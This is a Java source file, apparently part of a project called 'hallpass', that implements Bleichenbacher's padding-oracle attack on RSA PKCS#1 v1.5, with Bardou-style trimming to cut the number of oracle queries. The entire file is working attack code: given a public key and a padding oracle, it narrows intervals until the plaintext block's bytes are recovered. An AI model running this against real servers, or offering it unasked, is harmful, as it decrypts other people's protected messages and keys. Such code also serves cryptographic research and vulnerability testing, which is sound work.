package hallpass.attack;

import java.math.BigInteger;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/**
 * Finds what is inside of an RSA block that is padded as PKCS#1 v1.5 says (RFC 8017 §7.2), by asking whether other blocks are
 * (Bleichenbacher, CRYPTO 1998). With B = 256^(k-2), a block of k bytes begins with 00 02 if its number m has 2B ≤ m &lt; 3B.
 * Whoever multiplies the ciphertext by s^e asks for m·s mod n, and each yes leaves less room for m. The first yes takes by far
 * the longest to find; so, before that, fractions u/t find divisors of m, and with them a bound for it (Bardou and others,
 * CRYPTO 2012, section 3.2), and multipliers that no m within the bounds fits are left out.
 */
public final class Bleichenbacher {
    private static final BigInteger ONE = BigInteger.ONE;
    private static final BigInteger TWO = BigInteger.TWO;
    /** Up to which divisors are looked for, two questions each. */
    private static final int DIVISORS = 64;

    private static final int FIRST_DIVISOR = 7;
    /** How far from 1 the fractions are with which a divisor is confirmed, in parts of it. */
    private static final int CONFIRMING = 5;

    private final BigInteger modulus;
    private final int bytes;
    private final BigInteger least;
    private final BigInteger most;
    private final Consumer<Bleichenbacher> progress;
    private List<Interval> intervals;
    private BigInteger multiplier = ONE;
    private int questions;

    /** Whoever tells whether a block is padded. */
    public interface Oracle {
        /** Whether the wanted number, times this, modulo n, begins as it should. */
        boolean isPadded(BigInteger multiplier) throws Exception;
    }

    /** Both ends belong to it. */
    private record Interval(BigInteger low, BigInteger high) {}

    /** @param progress is told whenever there is less room for the number than before */
    public Bleichenbacher(RSAPublicKey key, Consumer<Bleichenbacher> progress) {
        this.modulus = key.getModulus();
        this.bytes = bytes(modulus);
        BigInteger unit = ONE.shiftLeft(8 * (bytes - 2));
        this.least = unit.multiply(TWO);
        this.most = unit.multiply(BigInteger.valueOf(3)).subtract(ONE);
        this.intervals = List.of(new Interval(least, most));
        this.progress = progress;
    }

    /** Whether a number is that of a block which begins with 00 02. */
    public static boolean isPadded(BigInteger number, BigInteger modulus) {
        return number.shiftRight(8 * (bytes(modulus) - 2)).equals(TWO);
    }

    private static int bytes(BigInteger modulus) {
        return (modulus.bitLength() + 7) / 8;
    }

    /** How many questions were asked so far. */
    public int questions() {
        return questions;
    }

    /** How many of the block's bytes are known, from its first one on. */
    public int known() {
        BigInteger differing = low().xor(high());
        return (8 * bytes - differing.bitLength()) / 8;
    }

    /** The block's first bytes. */
    public byte[] first(int count) {
        return block(low().shiftRight(8 * (bytes - count)), count);
    }

    /** A number as so many bytes. */
    public static byte[] block(BigInteger number, int size) {
        byte[] shortest = number.toByteArray();
        byte[] block = new byte[size];
        int shown = Math.min(size, shortest.length);
        System.arraycopy(shortest, shortest.length - shown, block, size - shown, shown);
        return block;
    }

    /**
     * Asks until so many of the block's first bytes are known. It can be called again for more of them, with the same oracle or
     * another one.
     */
    public void find(int wanted, Oracle oracle) throws Exception {
        while (known() < wanted) {
            multiplier = next(oracle);
            narrow();
            progress.accept(this);
        }
    }

    private BigInteger low() {
        return intervals.stream().map(Interval::low).reduce(BigInteger::min).orElseThrow();
    }

    private BigInteger high() {
        return intervals.stream().map(Interval::high).reduce(BigInteger::max).orElseThrow();
    }

    private boolean ask(BigInteger other, Oracle oracle) throws Exception {
        questions++;
        return oracle.isPadded(other);
    }

    /** Multipliers of each interval in turn: only one of the intervals has the number in it. */
    private BigInteger next(Oracle oracle) throws Exception {
        List<Multipliers> all = intervals.stream().map(Multipliers::new).toList();
        while (true) {
            for (Multipliers each : all) {
                BigInteger tried = each.next();
                if (ask(tried, oracle)) {
                    return tried;
                }
            }
        }
    }

    /** Those by which a number of this interval can be padded again, and that halve the interval if it is. */
    private final class Multipliers {
        private final Interval interval;
        private BigInteger turns;
        private BigInteger apart = ONE;
        private BigInteger now;
        private BigInteger last;

        Multipliers(Interval interval) {
            this.interval = interval;
            BigInteger beyond = interval.high.multiply(multiplier).subtract(least);
            this.turns = ceiling(beyond.multiply(TWO), modulus).max(ONE);
            this.now = firstOfTurn();
            this.last = lastOfTurn();
        }

        /** Further and further apart: where the modulus is nearly a multiple of the number, one turn is like the next. */
        BigInteger next() {
            while (now.compareTo(last) > 0) {
                turns = turns.add(apart);
                apart = apart.multiply(TWO).min(turns.divide(TWO).max(ONE));
                now = now.max(firstOfTurn());
                last = lastOfTurn();
            }
            BigInteger given = now;
            now = now.add(ONE);
            return given;
        }

        private BigInteger firstOfTurn() {
            return ceiling(least.add(turns.multiply(modulus)), interval.high);
        }

        private BigInteger lastOfTurn() {
            return most.add(turns.multiply(modulus)).divide(interval.low);
        }
    }

    /** The number times the multiplier is padded: what is left of the intervals. */
    private void narrow() {
        List<Interval> left = new ArrayList<>();
        for (Interval interval : intervals) {
            BigInteger end = interval.high.multiply(multiplier).subtract(least).divide(modulus);
            BigInteger turn = ceiling(interval.low.multiply(multiplier).subtract(most), modulus);
            for (; turn.compareTo(end) <= 0; turn = turn.add(ONE)) {
                BigInteger added = turn.multiply(modulus);
                BigInteger low = interval.low.max(ceiling(least.add(added), multiplier));
                BigInteger high = interval.high.min(most.add(added).divide(multiplier));
                if (low.compareTo(high) <= 0) {
                    left.add(new Interval(low, high));
                }
            }
        }
        if (left.isEmpty()) {
            throw new IllegalStateException("the oracle contradicts itself");
        }
        intervals = List.copyOf(left);
    }

    /**
     * To begin with: bounds the number by a divisor of its own. Where t divides it, u/t of it is a number too; for others, u/t
     * modulo n is something else altogether.
     *
     * @return the greatest divisor that was found, 1 if there was none: the greater, the fewer questions there will be
     */
    public BigInteger trim(Oracle oracle) throws Exception {
        BigInteger divisor = ONE;
        for (int t = FIRST_DIVISOR; t <= DIVISORS; t++) {
            BigInteger candidate = BigInteger.valueOf(t);
            if (divisor.mod(candidate).signum() != 0 && divides(t, oracle)) {
                divisor = divisor.multiply(candidate).divide(divisor.gcd(candidate));
            }
        }
        if (divisor.compareTo(ONE) > 0) {
            bound(divisor, oracle);
        }
        return divisor;
    }

    /** One yes could be luck; two are not. */
    private boolean divides(int t, Oracle oracle) throws Exception {
        int yes = 0;
        for (int away = 1; away <= CONFIRMING && (away == 1 || yes == 1); away++) {
            for (int u : new int[] {t + away, t - away}) {
                boolean lowestTerms =
                        BigInteger.valueOf(u).gcd(BigInteger.valueOf(t)).equals(ONE);
                if (yes < 2 && lowestTerms && ask(fraction(BigInteger.valueOf(u), BigInteger.valueOf(t)), oracle)) {
                    yes++;
                }
            }
        }
        return yes == 2;
    }

    /** The greatest u for which u/t of the number still is below 3B says where the number is, give or take one part in t. */
    private void bound(BigInteger t, Oracle oracle) throws Exception {
        BigInteger padded = t;
        BigInteger beyond = t.multiply(BigInteger.valueOf(3)).divide(TWO).add(ONE);
        while (beyond.subtract(padded).compareTo(ONE) > 0) {
            BigInteger u = padded.add(beyond).divide(TWO);
            if (ask(fraction(u, t), oracle)) {
                padded = u;
            } else {
                beyond = u;
            }
        }
        BigInteger low = least.max(ceiling(most.add(ONE).multiply(t), beyond));
        BigInteger high = most.min(most.multiply(t).divide(padded));
        intervals = List.of(new Interval(low, high));
    }

    private BigInteger fraction(BigInteger u, BigInteger t) {
        return u.multiply(t.modInverse(modulus)).mod(modulus);
    }

    private static BigInteger ceiling(BigInteger value, BigInteger by) {
        BigInteger[] parts = value.divideAndRemainder(by);
        return parts[1].signum() > 0 ? parts[0].add(ONE) : parts[0];
    }
}
